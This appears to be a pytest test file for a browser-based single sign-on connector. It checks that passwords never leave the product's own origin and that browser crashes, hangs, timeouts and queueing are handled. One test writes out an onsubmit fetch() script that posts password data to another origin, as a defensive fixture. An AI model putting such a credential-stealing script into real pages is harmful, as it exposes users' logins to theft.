"""The browser's life, and that credentials go to nobody but the product (contract C45, C47)."""

from __future__ import annotations

import asyncio
import contextlib
import os
import signal
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from lone_guard import LoneGuard

from imis_sso.connectors.base import Credential, WriteUncertain
from imis_sso.connectors.browser import launch
from imis_sso.connectors.browser import session as browser_module
from imis_sso.connectors.browser.description import LogInDescription, PageDescription
from imis_sso.connectors.browser.form import read_form, write_form
from imis_sso.connectors.browser.log_in import LogIn
from imis_sso.connectors.browser.session import BrowserSession
from imis_sso.connectors.browser.tab import Tab
from imis_sso.connectors.browser.way import Way
from imis_sso.domain.problems import (
    Busy,
    UpstreamCredentialsRefused,
    UpstreamError,
    UpstreamPageChanged,
    UpstreamTimeout,
    UpstreamUnavailable,
)
from imis_sso.domain.secret import Secret

pytestmark = [pytest.mark.anyio, pytest.mark.browser]

PASSWORD = "pa55&word+1"
LOG_IN = LogInDescription.model_validate(
    {
        "fields": {
            "username": {"label": "User", "kind": "text"},
            "password": {"label": "Password", "kind": "secret"},
        },
        "submit": "Go",
        "choice": "Use a password",
        "refused": "nope",
    }
)
PAGE = PageDescription.model_validate(
    {
        "open": [["Section"], ["Page"]],
        "fields": {"text": {"label": "Text", "kind": "text"}},
        "save": {"button": "Save"},
    }
)
FORM = '<form method="post" {}>{}<button {}>Go</button></form>'
FIELDS = (
    '<label>User <input name="u"></label><label>Password <input name="p" type="password"></label>'
)
LOG_IN_FORM = FORM.format('action="/in"', FIELDS, "")
HOME = '<a href="/section">Section</a>'
SECTION = '<a href="/page">Page</a>'
SETTINGS = (
    '<form method="post" action="/saved"><label>Text <input name="t" value="v"></label>'
    "<button>Save</button></form>"
)


class Guard(LoneGuard):
    """Counts what it is told."""

    def __init__(self) -> None:
        self.refused: list[str] = []

    async def check(self, address: str, username: str, password: Secret) -> None:
        if password.reveal() in self.refused:
            msg = f"{username} was refused at {address}"
            raise UpstreamCredentialsRefused(msg)

    async def remember(self, address: str, username: str, password: Secret) -> None:
        self.refused.append(password.reveal())
        assert (address, username) == ("place", "me")


async def me() -> Credential:
    return Credential("me", Secret(PASSWORD))


class Walker:
    """A log-in and a way of its own for every test, on the browser that all share."""

    def __init__(self, session: BrowserSession, origin: str) -> None:
        self.session, self.guard = session, Guard()
        log_in = LogIn(LOG_IN, me, self.guard, address="place", others={})
        self.way = Way(f"{origin}/", log_in)

    async def read(self, seconds: float = 40) -> str | bool:
        async def work(tab: Tab) -> str | bool:
            found = await read_form(tab, PAGE, await self.way.open(tab, PAGE))
            return found.values["text"]

        return await self.session.run(work, seconds)


@pytest.fixture
def walker(browser_session: BrowserSession, browser_site: Any) -> Walker:
    browser_site.pages |= {"/": LOG_IN_FORM, "/section": SECTION, "/page": SETTINGS}
    browser_site.pages["/in"] = "303 /home"
    browser_site.pages["/home"] = HOME
    return Walker(browser_session, browser_site.origin)


def passwords_at(received: list[tuple[str, str, str]]) -> int:
    return sum("pa55" in body for _, _, body in received)


@pytest.mark.parametrize(
    ("form", "button"),
    [
        ('action="{other}/in"', ""),
        ('action="/in"', 'formaction="{other}/in"'),
        ('action="javascript:void 0"', ""),
        ('action="/in" target="_blank"', ""),
        ('action="/in"', 'formtarget="_blank"'),
    ],
)
async def test_a_form_that_sends_elsewhere_gets_no_password(
    walker: Walker, browser_site: Any, form: str, button: str
) -> None:
    """Contract C45: a password goes to its own product only; checked before anything is typed."""
    other = browser_site.other
    page = FORM.format(form.format(other=other), FIELDS, button.format(other=other))
    browser_site.pages["/"] = page
    with pytest.raises(UpstreamPageChanged, match="Nothing was sent"):
        await walker.read()
    assert browser_site.elsewhere == []
    assert passwords_at(browser_site.received) == 0


@pytest.mark.parametrize("status", [307, 308])
async def test_a_redirect_takes_no_password_elsewhere(
    walker: Walker, browser_site: Any, status: int
) -> None:
    """RFC 9110 15.4.8: such a redirect makes a browser send the form once more."""
    browser_site.pages["/in"] = f"{status} {browser_site.other}/in"
    with pytest.raises((UpstreamUnavailable, UpstreamError)):
        await walker.read()
    assert passwords_at(browser_site.received) == 1
    assert browser_site.elsewhere == []


async def test_a_script_takes_no_password_elsewhere(walker: Walker, browser_site: Any) -> None:
    steal = f"fetch('{browser_site.other}/in',{{method:'POST',mode:'no-cors',body:'pa55'}})"
    form = FORM.format(f'action="/in" onsubmit="{steal}"', FIELDS, "")
    browser_site.pages["/"] = form
    with contextlib.suppress(UpstreamError, UpstreamPageChanged, UpstreamUnavailable):
        await walker.read()
    assert browser_site.elsewhere == []
    assert passwords_at(browser_site.received) == 1


async def test_the_other_address_would_have_been_reached(
    browser_session: BrowserSession, browser_site: Any
) -> None:
    """So that the silence above is the guard's doing, and not the network's."""
    browser_site.pages["/go"] = "302 " + browser_site.other + "/there"
    browser_site.pages["/there"] = "there"

    async def work(tab: Tab) -> None:
        await tab.load(f"{browser_site.origin}/go")

    with pytest.raises(UpstreamError, match="another address"):
        await browser_session.run(work, 10)
    assert browser_site.elsewhere == [("GET", "/there", "")]


@pytest.mark.parametrize(
    "answer", ["<p>NOPE</p>", '<p role="alert">Wrong for pa55&amp;word+1</p>', ""]
)
async def test_a_refusal_is_recognised_however_it_is_said(
    walker: Walker, browser_site: Any, answer: str
) -> None:
    """Contract C47; silence is a refusal too, because trying again could lock the account out."""
    browser_site.pages["/in"] = answer + LOG_IN_FORM
    with pytest.raises(UpstreamCredentialsRefused) as caught:
        await walker.read()
    assert PASSWORD not in caught.value.detail
    with pytest.raises(UpstreamCredentialsRefused):
        await walker.read()
    assert walker.guard.refused == [PASSWORD]
    assert passwords_at(browser_site.received) == 1


async def test_a_choice_before_the_log_in_is_made(walker: Walker, browser_site: Any) -> None:
    """Product facts 3.5: the sign-in page may ask first how to sign in."""
    browser_site.pages["/"] = '<a href="/form">Use a password</a>'
    browser_site.pages["/form"] = LOG_IN_FORM
    browser_site.pages["/in"] = "303 /home"
    browser_site.pages["/home"] = "welcome"
    with pytest.raises(UpstreamError, match="again right after the log-in"):
        await walker.read()
    assert passwords_at(browser_site.received) == 1


async def test_a_log_in_by_script_is_recognised(walker: Walker, browser_site: Any) -> None:
    """A console may replace its log-in form without loading another page."""
    form = FORM.format("onsubmit=\"this.outerHTML='Welcome';return false\"", FIELDS, "")
    browser_site.pages["/"] = form
    with pytest.raises(UpstreamError, match="again right after the log-in"):
        await walker.read()
    assert walker.guard.refused == []


async def test_a_missing_step_of_the_way_is_named(walker: Walker, browser_site: Any) -> None:
    browser_site.pages["/"] = '<a href="/x">Elsewhere</a><a href="/y">Sections</a>'
    with pytest.raises(UpstreamPageChanged) as caught:
        await walker.read()
    assert '"Section" is missing (the page has "Elsewhere", "Sections"' in caught.value.detail
    assert 'nearest: "Sections"' in caught.value.detail


async def test_a_link_of_the_way_that_leads_away_is_not_followed(
    walker: Walker, browser_site: Any
) -> None:
    browser_site.pages["/"] = f'<a href="{browser_site.other}/section">Section</a>'
    with pytest.raises(UpstreamPageChanged, match="leads away"):
        await walker.read()
    assert browser_site.elsewhere == []


async def test_one_thing_at_a_time(browser_session: BrowserSession) -> None:
    """Architecture, connectors: one page per environment, so one operation at a time."""
    running = most = 0

    async def work(_tab: Tab) -> None:
        nonlocal running, most
        running += 1
        most = max(most, running)
        await asyncio.sleep(0.01)
        running -= 1

    await asyncio.gather(*(browser_session.run(work, 5) for _ in range(8)))
    assert (running, most) == (0, 1)


@pytest.fixture
async def own(browser_site: Any) -> AsyncIterator[BrowserSession]:
    session = BrowserSession(
        browser_site.origin, "The product", ca_file=browser_site.ca_file, settle_seconds=0.5
    )
    yield session
    await session.aclose()


async def browser_of(session: BrowserSession) -> launch.Launched:
    found = await session._engine._launched()
    assert found.pid is not None
    return found


def is_alive(pid: int) -> bool:
    return Path(f"/proc/{pid}").exists()


async def test_a_browser_has_one_life_after_another(
    own: BrowserSession, browser_site: Any, walker: Walker
) -> None:
    """A broken browser and a server with a new key are met by a new start; the end is an end."""
    browser_site.pages["/"] = HOME
    fresh = Walker(own, browser_site.origin)
    assert await fresh.read() == "v"
    first = (await browser_of(own)).pid or 0
    os.kill(first, signal.SIGKILL)
    assert await fresh.read() == "v"
    second = (await browser_of(own)).pid or 0
    browser_site.restart_with_another_key()
    assert await fresh.read() == "v"
    third = (await browser_of(own)).pid or 0
    assert len({first, second, third}) == 3
    await own.aclose()
    assert not any(is_alive(each) for each in (first, second, third))
    with pytest.raises(UpstreamUnavailable, match="closed"):
        await fresh.read()
    assert walker.session is not own


async def test_a_browser_that_breaks_down_after_save_leaves_it_uncertain(
    own: BrowserSession, browser_site: Any, walker: Walker
) -> None:
    """Product facts 3.5: from the press on, nothing is done twice."""
    browser_site.pages["/"] = HOME
    fresh = Walker(own, browser_site.origin)
    pressed = 0

    async def work(tab: Tab) -> None:
        nonlocal pressed
        view = await fresh.way.open(tab, PAGE)
        pressed += 1
        browser_site.pages["/saved"] = f"<script>{'x=1;' * 9}</script>"
        killing = asyncio.create_task(kill_when_saved())
        await write_form(tab, PAGE, view, {"text": "new"}, {"text": "v"})
        await killing

    def until_saved() -> None:
        while not any(method == "POST" for method, _, _ in browser_site.received):
            time.sleep(0.005)

    async def kill_when_saved() -> None:
        await asyncio.to_thread(until_saved)
        os.kill((await browser_of(own)).pid or 0, signal.SIGKILL)

    with pytest.raises(WriteUncertain) as caught:
        await own.run(work, 40)
    assert isinstance(caught.value.cause, UpstreamUnavailable)
    assert pressed == 1
    assert walker.guard.refused == []


async def test_a_time_out_before_save_is_a_time_out(walker: Walker, browser_site: Any) -> None:
    browser_site.pages["/"] = HOME

    async def work(tab: Tab) -> None:
        await walker.way.open(tab, PAGE)
        await asyncio.sleep(5)

    with pytest.raises(UpstreamTimeout):
        await walker.session.run(work, 0.8)
    assert await walker.read() == "v"


async def test_a_browser_that_keeps_breaking_down_is_said_so(
    own: BrowserSession, browser_site: Any
) -> None:
    browser_site.pages["/"] = HOME
    starts = 0

    async def work(tab: Tab) -> None:
        nonlocal starts
        starts += 1
        os.kill((await browser_of(own)).pid or 0, signal.SIGKILL)
        await tab.load(f"{browser_site.origin}/")

    with pytest.raises(UpstreamUnavailable, match="repeatedly"):
        await own.run(work, 20)
    assert starts == 2


async def test_a_browser_that_hangs_is_ended_by_force(
    own: BrowserSession, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing is left running, whatever state the browser is in."""
    pid = (await browser_of(own)).pid or 0
    monkeypatch.setattr(launch, "_STOP_SECONDS", 0.5)
    os.kill(pid, signal.SIGSTOP)
    await own.aclose()
    assert not is_alive(pid)


async def test_who_waits_too_long_for_the_browser_is_told(
    browser_session: BrowserSession, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Contract C32, C33: queued, but not for ever."""
    monkeypatch.setattr(browser_module, "_QUEUE_SECONDS", 0.05)

    async def work(_tab: Tab) -> str:
        await asyncio.sleep(0.3)
        return "done"

    first = asyncio.create_task(browser_session.run(work, 10))
    await asyncio.sleep(0)
    with pytest.raises(Busy):
        await browser_session.run(work, 10)
    assert await first == "done"


async def test_pages_that_are_none_are_errors(
    browser_session: BrowserSession, browser_site: Any
) -> None:
    async def load(tab: Tab) -> None:
        await tab.load(f"{browser_site.origin}/nothing")

    with pytest.raises(UpstreamError, match="status 404 and no page"):
        await browser_session.run(load, 10)
    browser_site.pages["/restless"] = "<script>location.reload()</script>"

    async def look(tab: Tab) -> None:
        await tab.load(f"{browser_site.origin}/restless")
        for _ in range(200):
            await tab.look()

    with pytest.raises((UpstreamError, UpstreamTimeout)):
        await browser_session.run(look, 3)


async def test_without_a_browser_the_way_to_get_one_is_named(
    browser_site: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    broken = tmp_path / "chromium"
    broken.write_text("#!/bin/sh\nexit 1\n")
    broken.chmod(0o755)
    monkeypatch.setenv(launch.EXECUTABLE_VARIABLE, str(broken))
    session = BrowserSession(browser_site.origin, "The product", ca_file=browser_site.ca_file)
    try:
        with pytest.raises(UpstreamUnavailable) as caught:
            await Walker(session, browser_site.origin).read()
    finally:
        await session.aclose()
    assert "imis-sso[browser]" in caught.value.detail
    assert launch.EXECUTABLE_VARIABLE in caught.value.detail
